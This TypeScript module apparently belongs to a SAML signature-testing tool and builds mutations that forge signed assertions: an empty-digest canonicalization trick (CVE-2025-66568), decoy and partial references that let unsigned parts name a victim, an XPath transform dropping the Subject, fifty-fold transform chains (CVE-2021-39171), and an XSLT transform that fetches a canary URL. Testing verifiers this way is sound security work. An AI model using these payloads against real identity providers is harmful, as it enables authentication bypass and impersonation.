/** References and transforms that do not say «exactly this element, whole»: Core 5.4.2 and 5.4.4. */

import { createHash } from 'node:crypto';
import type { Mutation, ReferencePlan } from '../protocol/types.ts';
import { rootOf, setAttribute } from '../protocol/xml-text.ts';
import { escapeAttribute } from '../protocol/xml.ts';
import { edit, first } from './elements.ts';
import { eachSignature } from './signatures.ts';
import { withVictimContent } from './victim.ts';

const enveloped = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';
const exclusive = 'http://www.w3.org/2001/10/xml-exc-c14n#';

/** Gives every signature these references instead of the one default one. */
export function referencing(...references: ReferencePlan[]): Mutation {
  return { plan: (plan) => eachSignature(plan, (signature) => ({ ...signature, references })) };
}

/** A relative namespace name, for which canonicalization has no result, and the digest of no result (CVE-2025-66568). */
export function voidCanonicalization(): Mutation {
  const digestValue = createHash('sha256').update('').digest('base64');
  return {
    ...referencing({ digestValue }),
    afterSigning: (xml, facts) => {
      const forged = withVictimContent(xml, facts);
      return setAttribute(forged, first(forged, 'Assertion'), 'xmlns:void', 'relative');
    },
  };
}

/** A second, valid Reference to an element in Extensions that has nothing to do with the assertion. */
export function secondReference(position: 'first' | 'last'): Mutation {
  const id = '_decoy';
  const own: ReferencePlan = {};
  const decoy: ReferencePlan = { uri: `#${id}`, transforms: [exclusive] };
  const references = position === 'first' ? [decoy, own] : [own, decoy];
  return {
    plan: (plan) => ({
      ...eachSignature(plan, (signature) => ({ ...signature, references })),
      extensions: `<d:Decoy xmlns:d="urn:samlproof:decoy" ID="${id}"></d:Decoy>`,
    }),
  };
}

/** The Reference names a part of the assertion only; the part that it does not cover then speaks of the victim. */
export function partialReference(part: 'Subject' | 'AttributeStatement'): Mutation {
  const id = '_part';
  const uncovered = part === 'Subject' ? 'AttributeStatement' : 'NameID';
  return {
    ...referencing({ uri: `#${id}`, transforms: [enveloped, exclusive] }),
    beforeSigning: (xml) => edit(xml, part, (text) => withId(text, id)),
    afterSigning: (xml, facts) => withVictimContent(xml, facts, [uncovered]),
  };
}

/** The Reference is an address of the canary's, which no verifier may fetch; the digest is that of the assertion. */
export function canaryReference(): Mutation {
  return {
    plan: (plan, facts) =>
      eachSignature(plan, (signature) => ({ ...signature, references: [{ uri: facts.canaryUrl }] })),
  };
}

/** An XPath transform that leaves the identity out, in the place of the canonicalization. */
export function xpathTransform(): Mutation {
  const xpath =
    '<ds:Transform xmlns:ds="http://www.w3.org/2000/09/xmldsig#" Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116">' +
    "<ds:XPath>not(ancestor-or-self::*[local-name()='Subject'])</ds:XPath></ds:Transform>";
  return referencing({ transforms: [enveloped, xpath] });
}

/** The same canonicalization, fifty times over (CVE-2021-39171). */
export function manyTransforms(): Mutation {
  return referencing({ transforms: [enveloped, ...Array.from({ length: 50 }, () => exclusive)] });
}

/** The enveloped-signature transform fifty times over: libraries that read canonical text only once fail at the above. */
export function manyEnveloped(): Mutation {
  return referencing({ transforms: [...Array.from({ length: 50 }, () => enveloped), exclusive] });
}

/** An XSLT transform whose only effect is a request to the canary, seen when a verifier runs style sheets. */
export function xsltTransform(): Mutation {
  return {
    plan: (plan, facts) =>
      eachSignature(plan, (signature) => ({
        ...signature,
        // In the place of the canonicalization: with it there would be three transforms, a fault of its own.
        references: [{ transforms: [enveloped, xslt(facts.canaryUrl)] }],
      })),
  };
}

function withId(element: string, id: string): string {
  const root = rootOf(element);
  return root ? setAttribute(element, root, 'ID', id) : element;
}

function xslt(url: string): string {
  return (
    '<ds:Transform xmlns:ds="http://www.w3.org/2000/09/xmldsig#" Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">' +
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">' +
    `<xsl:copy-of select="document('${escapeAttribute(url)}')"></xsl:copy-of>` +
    '</xsl:template></xsl:stylesheet></ds:Transform>'
  );
}
